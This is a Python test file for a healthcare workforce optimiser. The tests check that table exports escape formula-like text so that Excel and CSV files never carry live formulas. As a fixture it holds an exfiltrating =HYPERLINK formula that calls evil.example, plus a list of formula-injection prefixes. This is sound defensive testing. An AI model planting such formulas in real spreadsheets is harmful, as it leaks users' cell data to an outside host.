"""Exports never carry a live formula: a PCN name like =HYPERLINK(...) opens as the text typed, in Excel and in CSV."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from optimiser.pipeline import optimise
from optimiser.scenario_io import load_scenario, save_scenario
from optimiser.tables import csv_text, excel_bytes, read_table, write_table

ROOT = Path(__file__).resolve().parents[1]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({"pcn_name": HOSTILE, "ods_code": ["=A1"] * len(HOSTILE), "wte": [-1.5] * len(HOSTILE)})


def test_formula_like_cells_open_as_text_in_openpyxl():
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes({"pcns": hostile_frame()})))
    sheet = book["pcns"]
    names = [sheet.cell(row=r, column=1) for r in range(2, len(HOSTILE) + 2)]
    assert [c.value for c in names] == [v.replace("\r", "\n") for v in HOSTILE]  # XML stores a lone CR as LF
    assert all(c.data_type == "s" for c in names)
    assert all(sheet.cell(row=r, column=2).data_type == "s" for r in range(2, len(HOSTILE) + 2))
    assert sheet.cell(row=2, column=3).value == -1.5 and sheet.cell(row=2, column=3).data_type == "n"  # numbers stay numbers


def test_formula_like_cells_are_literal_text_in_csv():
    text = csv_text(hostile_frame())
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["pcn_name", "ods_code", "wte"]
    assert [r[0] for r in rows[1:]] == ["'" + v.replace("\r", "\n") for v in HOSTILE]  # a bare CR would split the row
    assert all(r[1] == "'=A1" for r in rows[1:])
    assert all(r[2] == "-1.5" for r in rows[1:])  # a negative number is a number, not a formula
    assert "'" not in csv_text(pd.DataFrame({"pcn_name": ["North PCN"], "wte": [2.0]}))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".parquet"])
def test_write_table_round_trips_by_suffix(tmp_path, suffix):
    frame = pd.DataFrame({"pcn_name": ["North PCN", "South PCN"], "list_size": [30_000, 45_000]})
    path = write_table(frame, tmp_path / f"pcns{suffix}")
    back = read_table(path)
    assert list(back["pcn_name"]) == ["North PCN", "South PCN"]
    assert [int(v) for v in back["list_size"]] == [30_000, 45_000]
    with pytest.raises(FileExistsError):
        write_table(frame, path)
    with pytest.raises(ValueError, match="unknown table format"):
        write_table(frame, tmp_path / "pcns.txt")


def test_solve_output_csv_escapes_a_hostile_pcn_name(tmp_path):
    scenario = load_scenario(ROOT / "scenarios" / "large-2024-25.yaml")
    scenario.pcn.name = EVIL
    scenario.pcn.ods_code = "@U1"
    path = save_scenario(scenario, tmp_path / "evil.yaml")
    out = tmp_path / "out"
    done = subprocess.run([sys.executable, "-m", "optimiser", "solve", str(path), "--output", str(out)],
                          capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert done.returncode == 0, done.stderr
    written = "".join(p.read_text() for p in out.glob("*.csv"))
    assert "'" + EVIL.replace('"', '""') in written
    assert not any(line.startswith(("=", "+", "@")) or ",=" in line or ',"=' in line for line in written.splitlines())


def test_app_excel_of_a_hostile_result_has_no_formula():
    from optimiser.results import tables

    scenario = load_scenario(ROOT / "scenarios" / "large-2024-25.yaml")
    scenario.pcn.name = EVIL
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes(tables(optimise(scenario)))))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    [name] = [c for c in cells if c.value == EVIL]  # the summary sheet's pcn cell
    assert name.data_type == "s"
